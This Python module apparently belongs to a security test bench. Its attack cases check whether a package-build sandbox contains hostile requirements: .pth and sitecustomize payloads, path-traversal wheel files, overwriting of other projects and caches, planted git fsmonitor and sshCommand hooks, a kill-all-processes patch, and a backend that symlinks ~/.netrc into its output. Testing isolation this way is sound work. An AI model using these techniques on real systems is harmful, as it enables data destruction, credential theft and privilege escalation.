"""Attacks on what projects share: requirements, environments, caches, and the folders above them."""

from bench.attacks.attack import Attack

_BY_ROOT = """
if os.getuid() == 0:
    note("worked: code of a requirement runs as root")
"""
_SHARED = {
    "shared.py": f"""
from shared_hostile import *
{_BY_ROOT}
begin()
attack_processes()
real = os.kill
os.kill = lambda pid, number: real(-1, 9)
site = os.path.dirname(os.path.abspath(__file__))
environments = f"{{site.split('/environment-')[0]}}/environment-*"
with contextlib.suppress(OSError):
    open(f"{{site}}/evil.pth", "w").write("import sys; sys.modules['evil'] = sys\\n")
for place in (f"{{environments}}/lib/python3*/site-packages", f"{{environments}}/bin", f"{{environments}}/*.cfg"):
    overwrite(f"{{place}}", f"{{place}}/plain*", f"{{place}}/**/*.pyc", f"{{place}}/python*")
overwrite(f"{{ROOM}}/var/cache/uv/**/*.py", f"{{ROOM}}/var/cache/uv/*", f"{{ROOM}}/attacks-links/*", f"{{SCRATCH}}/*/*")
attack_files(f"{{ROOM}}/var/cache/uv", f"{{ROOM}}/attacks-links")
""",
    "shared_start.pth": f"import os; from shared_hostile import *; exec({_BY_ROOT!r})\n",
    "sitecustomize.py": f"from shared_hostile import *\n{_BY_ROOT}\n",
    "shared-1.0.data/data/pyvenv.cfg": "home = /nowhere\n",
}
_PROGRAM = """#!/bin/sh
if test "$(id -u)" = 0; then echo worked: code of a requirement runs as root >> LOOT_FOLDER/part; fi
"""
_PARTS = ("data/bin/python", "data/bin/python3", "data/pyvenv.cfg", "scripts/python", "scripts/activate_this.py")
_OUTSIDE = {
    "outside.py": "x = 1\n",
    "outside-1.0.data/purelib/../../../../../evil.py": "x = 1\n",
    "outside-1.0.data/scripts/../../evil.py": "x = 1\n",
    "../../../../../../../../evil.py": "x = 1\n",
    "/github/home/evil.py": "x = 1\n",
}
_ABOVE = """
PROGRAM = f"#!/bin/sh\\necho worked: the code of another user ran as $(id -u) >> {LOOT}/$(id -u)-above\\n"

def attack(folder):
    tmp = os.environ["TMPDIR"]
    places = {TMP, "/tmp", "/var/tmp", "/", os.path.dirname(tmp), SCRATCH, f"{SCRATCH}/1", *parents(HERE)}
    if ROOM:
        places -= {"/tmp", "/var/tmp"}  # other programs use these
    for place in places:
        with contextlib.suppress(OSError):
            os.makedirs(f"{place}/.git/objects", exist_ok=True)
            os.makedirs(f"{place}/.git/refs", exist_ok=True)
            for name, text in FILES.items():
                open(f"{place}/{name}", "w").write(text)
            open(f"{place}/fsmonitor", "w").write(PROGRAM)
            os.chmod(f"{place}/fsmonitor", 0o755)
            open(f"{place}/.git/config", "w").write(
                f"[core]\\n\\tfsmonitor = {place}/fsmonitor\\n\\tsshCommand = {place}/fsmonitor\\n"
                f"[remote \\"origin\\"]\\n\\turl = ext::{place}/fsmonitor\\n\\tpromisor = true\\n"
            )
            open(f"{place}/.git/HEAD", "w").write("ref: refs/heads/main\\n")

def parents(path):
    while path != "/":
        path = os.path.dirname(path)
        yield path

FILES = {
    ".gitignore": "*\\n",
    ".hgignore": "*\\n",
    "pyproject.toml": "[tool.uv]\\nindex-url = 'http://127.0.0.1:1/'\\noffline = false\\n",
    "uv.toml": "index-url = 'http://127.0.0.1:1/'\\ncache-dir = 'evil'\\n",
    "setup.cfg": "[build]\\nbuild_base = evil\\n",
    "pip.conf": "[global]\\nindex-url = http://127.0.0.1:1/\\n",
    "sitecustomize.py": "raise SystemExit('attacked')\\n",
}
"""

_LIAR = """
import json
import os
import socket
import sys
from flit_core_hostile import *

begin()
channel = socket.socket(fileno=int(sys.argv[1]))
lies = [(b"pid 1", b"\\xff"), (b"pid %d" % os.getppid(), b"-999999999999999"), (b"pid %d" % os.getppid(), b"-40")]
lies += [(b"pid -1", b""), (b"pid x", b"0"), (b"x", b"x"), (b"", b""), (b"pid 0", b"0")]
while True:
    message, files, _, _ = socket.recv_fds(channel, 8, 3)
    if not message:
        break
    folder = json.loads(os.pread(files.pop(0), 1024 * 1024, 0))["arguments"][1]
    lie = lies[len(glob.glob(f"{TMP}/lie-*")) % len(lies)]
    open(f"{TMP}/lie-{os.getpid()}-{time.monotonic_ns()}", "w").close()
    os.symlink(f"{GITHUB}/home/.netrc", f"{folder}/output.json")
    socket.send_fds(channel, [lie[0]], files)
    channel.send(lie[1])
    for each in files:
        os.write(each, b"::add-mask::x\\n")
        os.close(each)
"""

REQUIREMENTS = (
    Attack(
        "a template of its own that lies about its forks",
        files={
            "pyproject.toml": '[build-system]\nrequires = ["flit-core"]\nbuild-backend = "flit_core.buildapi"\n',
        },
        count=9,
        wheels={"flit_core": {"flit_core/__init__.py": "", "flit_core/buildapi.py": _LIAR}},
        neighbours=("one", "two"),
    ),
    Attack(
        "a requirement of two projects that changes a third",
        "import shared\ndef attack(folder): import shared",
        count=2,
        build_requires=["shared", "plain"],
        wheels={"shared": _SHARED},
        neighbours=("one", "two"),
        jobs=1,
    ),
    Attack(
        "a requirement of two projects, beside a third",
        "import shared\ndef attack(folder): import shared",
        count=2,
        build_requires=["shared", "plain"],
        wheels={"shared": _SHARED},
        neighbours=("one", "two"),
        formats=("wheel", "sdist"),
    ),
    Attack(
        "a requirement with files outside of its environment",
        build_requires=["outside"],
        wheels={"outside": _OUTSIDE},
        neighbours=("one", "two"),
        jobs=1,
    ),
    Attack(
        "requirements that replace parts of their environments",
        "requires = lambda: [f'part{NUMBER}']",
        count=len(_PARTS),
        wheels={f"part{number}": {f"part{number}-1.0.data/{part}": _PROGRAM} for number, part in enumerate(_PARTS)},
    ),
    Attack(
        "files above all projects: .git, .gitignore, settings",
        _ABOVE,
        neighbours=("one", "two"),
        jobs=1,
    ),
    Attack(
        "a git folder of its own, which root might ask",
        """
def attack(folder):
    text = f"#!/bin/sh\\necho worked: git of root ran this as $(id -u) >> {LOOT}/$(id -u)-git\\n"
    program = f"{HERE}/monitor"
    open(program, "w").write(text)
    os.chmod(program, 0o755)
    for place in (HERE, os.path.dirname(HERE), folder, os.environ["TMPDIR"]):
        subprocess.run(["git", "init", "-q", place])
        for key in ("core.fsmonitor", "core.sshCommand", "core.pager", "gpg.program", "diff.external"):
            subprocess.run(["git", "-C", place, "config", key, program])
    os.remove(f"{LOOT}/{os.getuid()}-git") if os.path.exists(f"{LOOT}/{os.getuid()}-git") else None
""",
    ),
    Attack(
        "a project above another one",
        """
def attack(folder):
    for path in glob.glob(f"{HERE}/*/*"):
        with contextlib.suppress(OSError):
            os.remove(path)
            open(path, "w").write("raise SystemExit('attacked')\\n")
    subprocess.run(["git", "tag", "-f", "v6.6.6"], cwd=HERE)
""",
        folder=".",
        jobs=1,
    ),
    Attack(
        "the trees, homes and folders of other projects",
        """
def attack(folder):
    for _ in range(20):
        own = os.path.dirname(os.environ["TMPDIR"])
        places = [each for each in glob.glob(f"{os.path.dirname(own)}/*") if each != own]
        overwrite(*places, *(f"{each}/*" for each in places), *(f"{each}/*/*" for each in places))
        overwrite(f"{own}/closed-*", f"{own}/closed-*/*", own)
        time.sleep(0.02)
""",
        neighbours=("one", "two"),
        formats=("wheel", "sdist"),
    ),
    Attack(
        "all files that it can write to",
        """
def attack(folder):
    attack_files(ROOM or "/", SCRATCH, sys.prefix)
    overwrite(f"{GITHUB}", f"{GITHUB}/*", f"{GITHUB}/*/*", f"{WORKSPACE}/one/*", f"{ROOM}/attacks-out/*/*")
""",
    ),
)
